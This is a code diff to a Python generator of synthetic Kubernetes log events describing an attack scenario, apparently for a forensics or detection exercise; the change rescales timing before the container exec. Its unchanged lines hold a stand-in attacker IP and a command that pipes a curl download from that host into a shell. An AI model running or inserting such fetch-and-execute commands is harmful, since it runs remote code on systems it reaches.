@@ -36,7 +36,12 @@ ATTACKER_IP = "203.0.113.77"
 _n = 0
 
 
+_before = 1.0
+
+
 def ts(seconds: float) -> str:
+    if seconds < EXEC_AT:
+        seconds = EXEC_AT - (EXEC_AT - seconds) * _before
     return (T0 + timedelta(seconds=seconds)).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
 
 
@@ -95,11 +100,14 @@ OFFLINE_COMMAND = ["sh", "-c", "curl -s http://203.0.113.77/x.sh | sh"]
 IMAGE = "registry.example.com/shop/payments:1.4.2"
 
 
-def story(command: list[str] | None = None, image: str = IMAGE, pace: float = 60.0) -> list[dict[str, object]]:
-    """The events in order; ``pace`` is the gap in seconds between the steps after the exec
-    (the live run uses a short one, so that the whole story is over before acquisition)."""
-    global _n
+def story(command: list[str] | None = None, image: str = IMAGE, pace: float = 60.0,
+          before: float = 1.0) -> list[dict[str, object]]:
+    """The events in order; ``pace`` is the gap in seconds between the steps after the exec,
+    ``before`` scales the time before it (the live run squeezes both, so that the story fits
+    between the container's start and the acquisition)."""
+    global _n, _before
     _n = 0
+    _before = before
     command = command or OFFLINE_COMMAND
     evs = [
         # Background noise: the kubelet and a controller doing their jobs.
@@ -169,14 +177,19 @@ def write(out_dir: Path, events: list[dict[str, object]]) -> list[Path]:
 LIVE_PACE = 0.5
 
 
-def live_logs(out_dir: Path, exec_time: datetime, command: list[str], image: str = IMAGE) -> list[Path]:
-    """The story re-timed so that its exec is at ``exec_time`` with ``command``, and the steps
-    after it follow every ``LIVE_PACE`` seconds."""
+def live_logs(out_dir: Path, exec_time: datetime, command: list[str], image: str = IMAGE,
+              started: datetime | None = None) -> list[Path]:
+    """The story re-timed so that its exec is at ``exec_time`` with ``command``, the steps
+    after it follow every ``LIVE_PACE`` seconds, and (given the container's ``started``
+    time) the pod's creation comes just before it and the discovery between the two."""
+    before = 1.0
+    if started is not None:
+        before = max(0.001, ((exec_time - started).total_seconds() + 0.5) / (EXEC_AT - 5))
     global T0
     saved = T0
     T0 = exec_time - timedelta(seconds=EXEC_AT)
     try:
-        return write(out_dir, story(command, image, LIVE_PACE))
+        return write(out_dir, story(command, image, LIVE_PACE, before))
     finally:
         T0 = saved
 
